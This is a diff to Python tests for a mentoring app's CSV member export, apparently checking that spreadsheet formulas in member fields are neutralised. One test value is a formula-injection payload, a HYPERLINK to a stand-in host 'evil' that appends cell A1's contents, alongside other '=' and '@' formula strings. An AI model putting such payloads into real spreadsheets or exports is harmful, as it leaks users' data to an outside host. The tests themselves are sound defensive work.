@@ -14,6 +14,7 @@ from werkzeug.datastructures import FileStorage
 from werkzeug.test import TestResponse, encode_multipart
 
 from flashmeet.core.database.session import Database
+from flashmeet.core.spreadsheets import csv_text
 from flashmeet.identity.models import Member, MentorTheme
 from flashmeet.messages.models import OutboxMessage
 from flashmeet.people.rules.facts import FACTS
@@ -117,7 +118,7 @@ def test_the_list_as_a_file_is_harmless_and_keeps_phone_numbers(office: Browser,
     rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True).removeprefix("\ufeff"))))
     assert [row["email"] for row in rows] == ["alice@example.org"]
     [alice] = rows
-    assert (alice["phone"], alice["company"], alice["headline"]) == ("+33612345678", '\'=HYPERLINK("x")', "'@SUM(1)")
+    assert (alice["phone"], alice["company"], alice["headline"]) == ("+33612345678", '’=HYPERLINK(’"x")', "’@SUM(1)")
     assert (alice["roles"], alice["themes"], alice["approved"]) == ("mentee;mentor", "Law", "yes")
 
 
@@ -135,7 +136,9 @@ def test_what_was_exported_and_imported_elsewhere_says_the_same(office: Browser,
         "degree": "Master; law",
         "offering": 'I read "bylaws"',
         "seeking": "A peer, perhaps",
-        "sector": "Santé",
+        "sector": ';=HYPERLINK("http://evil/?"&A1;"x");',
+        "headline": "+15 ans en droit social",
+        "company": "’=1; '=1|-2",
     }
     with database.writing() as db:
         alice = people.mentor(db, "Alice", phone="+33612345678", graduation_year=2010, **facts)
@@ -157,9 +160,7 @@ def test_what_was_exported_and_imported_elsewhere_says_the_same(office: Browser,
 
 
 def office_file(db: Session) -> bytes:
-    out = io.StringIO()
-    csv.writer(out).writerows(member_rows(db, locale="fr"))
-    return out.getvalue().encode()
+    return csv_text(member_rows(db, locale="fr")).encode()
 
 
 def said_by(who: Member) -> dict[str, object]:
